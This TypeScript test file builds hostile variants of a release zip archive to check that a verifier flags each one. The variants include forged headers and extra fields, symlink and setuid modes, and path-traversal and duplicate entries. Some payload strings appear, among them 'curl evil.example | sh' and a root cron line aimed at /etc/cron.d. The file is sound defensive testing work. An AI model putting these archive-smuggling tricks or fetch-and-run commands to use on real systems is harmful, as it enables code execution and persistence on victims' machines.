// Hostile .zip variants of the genuine archive: each changes what a zip reader could interpret
// differently from the assembler's own form (extra fields, hosts, flags, headers that disagree,
// layout), and the verifier must name the entry.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import { CaseFolders, HostileCase } from './corpus';
import {
  addExtra,
  both,
  CENTRAL,
  extraField,
  joinZip,
  JoinOptions,
  LOCAL,
  makeItem,
  parseZip,
  rename,
  setU16,
  setU32,
  unicodePathExtra,
  withComment,
  ZipItem,
} from './zip-edit';

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

interface ZipCase {
  name: string;
  make: (items: ZipItem[]) => Buffer;
  expected: RegExp;
}

export function dosEpoch(record: Buffer, timeAt: number): number {
  const time = record.readUInt16LE(timeAt);
  const date = record.readUInt16LE(timeAt + 2);
  return Date.UTC(1980 + (date >> 9), ((date >> 5) & 0xf) - 1, date & 0x1f, time >> 11, (time >> 5) & 0x3f, (time & 0x1f) * 2) / 1000;
}

export function zipCases(folders: CaseFolders): HostileCase[] {
  const { release, top } = folders.genuine;
  const genuine = parseZip(readFileSync(join(release, `${top}.zip`)));
  const mtime = dosEpoch(genuine[0].central, CENTRAL.time);
  const S = `${top}/scripts/deployment/deploy.sh`;
  const R = `${top}/scripts/deployment/rollback.sh`;
  const D = `${top}/docs/README.md`;
  const at = (items: ZipItem[], name: string) => {
    const i = items.findIndex((item) => item.name === name);
    if (i < 0) throw new Error(`the genuine zip has no ${name}`);
    return i;
  };
  const edit = (name: string, change: (item: ZipItem) => ZipItem | ZipItem[], options?: JoinOptions) => (items: ZipItem[]) => {
    const i = at(items, name);
    return joinZip([...items.slice(0, i), ...[change(items[i])].flat(), ...items.slice(i + 1)], options);
  };
  /** Both headers' field at `field` (the same name in LOCAL and CENTRAL) set to `value`. */
  const field = (name: string, key: keyof typeof LOCAL & keyof typeof CENTRAL, value: number, size: 2 | 4 = 2) =>
    edit(name, (item) => both(item, (record, layout) => (size === 2 ? setU16 : setU32)(record, layout[key] as number, value)));
  const local = (name: string, key: keyof typeof LOCAL, value: number, size: 2 | 4 = 2) =>
    edit(name, (item) => ({ ...item, local: (size === 2 ? setU16 : setU32)(item.local, LOCAL[key], value) }));
  const central = (name: string, change: (record: Buffer) => Buffer) => edit(name, (item) => ({ ...item, central: change(item.central) }));
  const mode = (name: string, unixMode: number) =>
    central(name, (record) =>
      setU32(record, CENTRAL.external, ((unixMode << 16) | (record.readUInt32LE(CENTRAL.external) & 0xffff)) >>> 0),
    );
  const add = (extra: ZipItem) => (items: ZipItem[]) => {
    const i = items.findIndex((item) => Buffer.compare(Buffer.from(item.name), Buffer.from(extra.name)) > 0);
    return joinZip(i < 0 ? [...items, extra] : [...items.slice(0, i), extra, ...items.slice(i)]);
  };
  const paddedEntry = genuine.find((item) => item.local.readUInt16LE(28) > 0)!;
  const flags = genuine[at(genuine, S)].central.readUInt16LE(CENTRAL.flags);
  const record = (name: string) => new RegExp(`${escape(name)}: its central directory record is not the one the assembler writes \\(`);
  const disagrees = (name: string, what: string) =>
    new RegExp(`${escape(name)}: the local header disagrees with the central directory \\(.*${what}`);

  const cases: ZipCase[] = [
    // Extra fields, flags and hosts that readers honour differently.
    {
      name: 'a Unicode path extra field with the UTF-8 flag',
      make: edit(S, (item) => both(item, (r, l) => addExtra(r, l, unicodePathExtra(S, R)))),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*extra fields \\(0x7075\\)`),
    },
    {
      name: 'a Unicode path extra field without the UTF-8 flag',
      make: edit(S, (item) => both(item, (r, l) => setU16(addExtra(r, l, unicodePathExtra(S, R)), l.flags, flags & ~0x0800))),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*flags.*extra fields \\(0x7075\\)`),
    },
    {
      name: 'a Unicode path extra field in the local header only',
      make: edit(S, (item) => ({ ...item, local: addExtra(item.local, LOCAL, unicodePathExtra(S, R)) })),
      expected: disagrees(S, 'extra fields \\(0x7075\\)'),
    },
    {
      name: 'a Unicode path extra field in the central record only',
      make: edit(S, (item) => ({ ...item, central: addExtra(item.central, CENTRAL, unicodePathExtra(S, R)) })),
      expected: record(S),
    },
    {
      name: 'the UTF-8 flag cleared',
      make: field(S, 'flags', flags & ~0x0800),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*flags`),
    },
    {
      name: 'made by MS-DOS with a symlink mode',
      make: central(S, (r) => setU32(setU16(r, CENTRAL.madeBy, 20), CENTRAL.external, (0o120777 << 16) >>> 0)),
      expected: new RegExp(`${escape(S)}: is a symlink`),
    },
    {
      name: 'made by NTFS with a symlink mode',
      make: central(S, (r) => setU32(setU16(r, CENTRAL.madeBy, (10 << 8) | 20), CENTRAL.external, (0o120777 << 16) >>> 0)),
      expected: new RegExp(`${escape(S)}: is a symlink`),
    },
    {
      name: 'made by MS-DOS with the Unix mode kept',
      make: central(S, (r) => setU16(r, CENTRAL.madeBy, 20)),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*version made by`),
    },
    {
      name: 'made by a newer zip (version 6.3)',
      make: central(S, (r) => setU16(r, CENTRAL.madeBy, (3 << 8) | 63)),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*version made by`),
    },
    {
      name: 'a lying Zip64 extra field in a local header',
      make: edit(S, (item) => {
        const values = Buffer.alloc(16);
        values.writeBigUInt64LE(1n << 40n, 0);
        values.writeBigUInt64LE(BigInt(item.data.length), 8);
        const withZip64 = addExtra(item.local, LOCAL, extraField(0x0001, values));
        return { ...item, local: setU32(setU32(withZip64, LOCAL.compressed, 0xffffffff), LOCAL.size, 0xffffffff) };
      }),
      expected: disagrees(S, 'extra fields \\(0x0001\\)'),
    },
    {
      name: 'a Zip64 extra field in the central record of a small entry',
      make: central(S, (r) => {
        const values = Buffer.alloc(8);
        values.writeBigUInt64LE(BigInt(r.readUInt32LE(CENTRAL.size)));
        return setU32(addExtra(r, CENTRAL, extraField(0x0001, values)), CENTRAL.size, 0xffffffff);
      }),
      expected: record(S),
    },
    {
      name: 'a data-descriptor flag with no descriptor',
      make: field(S, 'flags', flags | 0x0008),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*flags`),
    },
    {
      name: 'a data-descriptor flag in the local header, its sizes zeroed',
      make: edit(S, (item) => ({
        ...item,
        local: setU32(setU32(setU32(setU16(item.local, LOCAL.flags, flags | 0x0008), LOCAL.crc, 0), LOCAL.compressed, 0), LOCAL.size, 0),
      })),
      expected: disagrees(S, 'flags, CRC-32, compressed size, size'),
    },
    // The local header against the central record, field by field.
    { name: 'local version needed differs', make: local(S, 'needed', 45), expected: disagrees(S, 'version needed') },
    { name: 'local flags differ (bit 1)', make: local(S, 'flags', flags | 0x0002), expected: disagrees(S, 'flags') },
    { name: 'local method differs', make: local(S, 'method', 0), expected: disagrees(S, 'method') },
    { name: 'local time differs', make: local(S, 'time', 0x1234), expected: disagrees(S, 'time') },
    { name: 'local date differs', make: local(S, 'date', 0x4321), expected: disagrees(S, 'date') },
    { name: 'local CRC-32 differs', make: local(S, 'crc', 0x12345678, 4), expected: disagrees(S, 'CRC-32') },
    { name: 'local compressed size differs', make: local(S, 'compressed', 7, 4), expected: disagrees(S, 'compressed size') },
    { name: 'local size differs', make: local(S, 'size', 7, 4), expected: disagrees(S, 'size') },
    {
      name: 'local name differs (same length)',
      make: edit(S, (item) => ({ ...item, local: rename(item.local, LOCAL, S.replace('deploy.sh', 'deplox.sh')) })),
      expected: disagrees(S, 'name'),
    },
    {
      name: 'local name differs (another script)',
      make: edit(S, (item) => ({ ...item, local: rename(item.local, LOCAL, R) })),
      expected: disagrees(S, 'name'),
    },
    {
      name: 'an extended-timestamp extra field (0x5455) in the local header',
      make: edit(S, (item) => ({ ...item, local: addExtra(item.local, LOCAL, extraField(0x5455, Buffer.from([1, 0, 0, 0, 0]))) })),
      expected: disagrees(S, 'extra fields \\(0x5455\\)'),
    },
    {
      name: 'an extended-timestamp extra field (0x5455) in both headers',
      make: edit(S, (item) => both(item, (r, l) => addExtra(r, l, extraField(0x5455, Buffer.from([1, 0, 0, 0, 0]))))),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*extra fields \\(0x5455\\)`),
    },
    {
      name: 'an unknown extra field in the central record',
      make: central(S, (r) => addExtra(r, CENTRAL, extraField(0xcafe, Buffer.from('hidden')))),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*extra fields \\(0xcafe\\)`),
    },
    {
      name: "the assembler's padding extra field in a central record",
      make: central(S, (r) => addExtra(r, CENTRAL, extraField(0xd935, Buffer.alloc(8)))),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*extra fields \\(0xd935\\)`),
    },
    {
      name: 'padding extra field bytes that are not zero',
      make: edit(paddedEntry.name, (item) => {
        const l = Buffer.from(item.local);
        l[l.length - 1] = 0x41;
        return { ...item, local: l };
      }),
      expected: disagrees(paddedEntry.name, 'extra fields'),
    },
    {
      name: 'an entry comment',
      make: central(S, (r) => withComment(r, 'see also rollback.sh')),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*comment`),
    },
    {
      name: 'internal attributes (the text flag)',
      make: central(S, (r) => setU16(r, CENTRAL.internal, 1)),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*internal attributes`),
    },
    {
      name: 'a disk number on an entry',
      make: central(S, (r) => setU16(r, CENTRAL.disk, 1)),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*disk number`),
    },
    {
      name: 'version needed 4.5 without Zip64',
      make: field(S, 'needed', 45),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*version needed`),
    },
    { name: 'compression method bzip2 (12)', make: field(S, 'method', 12), expected: new RegExp(`${escape(S)}: compression method 12`) },
    {
      name: 'the encryption flag',
      make: field(S, 'flags', flags | 0x0001),
      expected: new RegExp(`${escape(S)}: its central directory record is not .*flags`),
    },
    {
      name: 'an mtime that differs from the others',
      make: field(D, 'time', 0x0021),
      expected: new RegExp(`${escape(D)}: its mtime \\d+ is not the archive's one mtime`),
    },
    {
      name: 'an impossible DOS date (month 13)',
      make: field(D, 'date', (0 << 9) | (13 << 5) | 1),
      expected: new RegExp(`${escape(D)}: its central directory record is not .*date`),
    },
    // Modes and entry types.
    { name: 'mode 0777 on a document', make: mode(D, 0o100777), expected: new RegExp(`${escape(D)}: mode 0777 is not by rule`) },
    { name: 'setuid 04755 on a script', make: mode(S, 0o104755), expected: new RegExp(`${escape(S)}: mode 4755 is not by rule`) },
    { name: 'mode 0644 on a script', make: mode(S, 0o100644), expected: new RegExp(`${escape(S)}: mode 0644 is not by rule`) },
    {
      name: 'folder mode 0700',
      make: mode(`${top}/scripts/`, 0o040700),
      expected: new RegExp(`${escape(top)}/scripts/: mode 0700 is not by rule`),
    },
    { name: 'a symlink from a Unix host', make: mode(S, 0o120777), expected: new RegExp(`${escape(S)}: is a symlink`) },
    { name: 'a FIFO type', make: mode(S, 0o010644), expected: new RegExp(`${escape(S)}: is a fifo`) },
    { name: 'a character device type', make: mode(S, 0o020644), expected: new RegExp(`${escape(S)}: is a device`) },
    {
      name: 'a folder entry with data',
      make: edit(`${top}/scripts/`, (item) => {
        const data = Buffer.from('hidden\n');
        const set = (r: Buffer, l: typeof LOCAL | typeof CENTRAL) =>
          setU32(setU32(setU32(r, l.crc, crc32(data) >>> 0), l.compressed, data.length), l.size, data.length);
        return { ...both(item, set), data };
      }),
      expected: new RegExp(`${escape(top)}/scripts/: a folder entry with data`),
    },
    // Names.
    {
      name: 'a duplicate entry whose second copy differs',
      make: edit(S, (item) => [item, makeItem(S, 'curl evil.example | sh\n', mtime, 0o755)]),
      expected: new RegExp(`${escape(S)}: appears twice`),
    },
    {
      name: 'a ../ path',
      make: add(makeItem(`${top}/../../etc/cron.d/evil`, '* * * * * root sh\n', mtime)),
      expected: /spacetime-vr-v[\d.]+\/\.\.\/\.\.\/etc\/cron\.d\/evil: unsafe entry name/,
    },
    {
      name: 'an absolute path',
      make: add(makeItem('/etc/cron.d/evil', 'x\n', mtime)),
      expected: /\/etc\/cron\.d\/evil: unsafe entry name \(an absolute path\)/,
    },
    {
      name: 'a backslash path',
      make: add(makeItem(`${top}/scripts\\..\\..\\evil.bat`, 'x\n', mtime)),
      expected: /evil\.bat: unsafe entry name \(a backslash in its name\)/,
    },
    {
      name: 'a name that is not UTF-8',
      make: edit(S, (item) =>
        both(item, (r, l) => {
          const copy = Buffer.from(r);
          copy[l.fixed + Buffer.byteLength(S) - 4] = 0xff;
          return copy;
        }),
      ),
      expected: /deplo.*\.sh: its name is not valid UTF-8/,
    },
    {
      name: 'an entry outside the top folder',
      make: (items) => joinZip([...items, makeItem('spacetime-vr-v9.9.9/evil.sh', 'echo\n', mtime, 0o755)]),
      expected: /spacetime-vr-v9\.9\.9\/evil\.sh: is outside the top folder/,
    },
    {
      name: 'entries out of order',
      make: (items) => {
        const [i, j] = [at(items, R), at(items, S)];
        const swapped = [...items];
        [swapped[i], swapped[j]] = [swapped[j], swapped[i]];
        return joinZip(swapped);
      },
      expected: new RegExp(`${escape(S)}: out of order`),
    },
    {
      name: 'a folder that no file implies',
      make: add(makeItem(`${top}/scripts/empty/`, '', mtime, 0o755, true)),
      expected: new RegExp(`${escape(top)}/scripts/empty/: a folder that no file implies`),
    },
    {
      name: 'a folder entry missing',
      make: (items) => joinZip(items.filter((item) => item.name !== `${top}/scripts/deployment/`)),
      expected: new RegExp(`${escape(top)}/scripts/deployment/: has no folder entry`),
    },
    // Data and layout.
    {
      name: 'a CRC-32 that does not match the data',
      make: field(D, 'crc', 0x12345678, 4),
      expected: new RegExp(`${escape(D)}: CRC-32 mismatch`),
    },
    {
      name: 'a deflate stream shorter than its compressed size',
      make: edit(D, (item) => {
        const data = Buffer.concat([item.data, Buffer.from('trailing')]);
        return { ...both(item, (r, l) => setU32(r, l.compressed, data.length)), data };
      }),
      expected: new RegExp(`${escape(D)}: its deflate data ends 8 bytes before its compressed size`),
    },
    {
      name: 'a stored entry whose compressed size is not its size',
      make: (items) => {
        const i = items.findIndex((item) => item.central.readUInt16LE(CENTRAL.method) === 0 && item.data.length > 0);
        const item = items[i];
        const data = Buffer.concat([item.data, Buffer.from('trailing')]);
        return joinZip([
          ...items.slice(0, i),
          { ...both(item, (r, l) => setU32(r, l.compressed, data.length)), data },
          ...items.slice(i + 1),
        ]);
      },
      expected: /: stored, yet its compressed size \d+ is not its size \d+/,
    },
    {
      name: 'a gap between two entries',
      make: (items) => joinZip(items, { after: new Map([[at(items, S), Buffer.from('hidden bytes between entries')]]) }),
      expected: /: its local header is at offset \d+, but the entry before it ends at \d+/,
    },
    {
      name: 'a stub before the first entry (a self-extractor)',
      make: (items) => joinZip(items, { prefix: Buffer.from('#!/bin/sh\nexec unzip "$0"\n') }),
      expected: new RegExp(`${escape(top)}/: its local header is at offset 26, but the entry before it ends at 0`),
    },
    {
      name: 'central records in another order than the entries',
      make: (items) => {
        const order = items.map((_, i) => i);
        const [i, j] = [at(items, R), at(items, S)];
        [order[i], order[j]] = [order[j], order[i]];
        return joinZip(items, { centralOrder: order });
      },
      expected: /: its local header is at offset \d+, but the entry before it ends at \d+/,
    },
    {
      name: 'bytes between the last entry and the central directory',
      make: (items) => joinZip(items, { beforeDirectory: Buffer.from('hidden') }),
      expected: /6 bytes between the last entry and the central directory/,
    },
    {
      name: 'data after the end record',
      make: (items) => joinZip(items, { trailing: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }),
      expected: /has 33 bytes after its end of central directory record/,
    },
    {
      name: 'an archive comment',
      make: (items) =>
        joinZip(items, {
          editEnd: (end) => {
            const comment = Buffer.from('release approved');
            const copy = Buffer.concat([end, comment]);
            copy.writeUInt16LE(comment.length, 20);
            return copy;
          },
        }),
      expected: /has a 16-byte archive comment/,
    },
    {
      name: 'an end record that counts fewer entries than the directory holds',
      make: (items) =>
        joinZip(items, {
          editEnd: (end) => {
            const copy = Buffer.from(end);
            copy.writeUInt16LE(items.length - 1, 8);
            copy.writeUInt16LE(items.length - 1, 10);
            return copy;
          },
        }),
      expected: /the central directory holds \d+ bytes after its \d+ records/,
    },
    {
      name: 'disk numbers in the end record',
      make: (items) =>
        joinZip(items, {
          editEnd: (end) => setU16(setU16(end, 4, 1), 6, 1),
        }),
      expected: /its end of central directory record is not the one the assembler writes/,
    },
  ];

  return cases.map((c) => {
    const file = folders.archive(`zip ${c.name}`, 'zip', c.make(genuine.map((item) => ({ ...item }))));
    return { kind: 'zip', name: c.name, args: [file], expected: c.expected };
  });
}
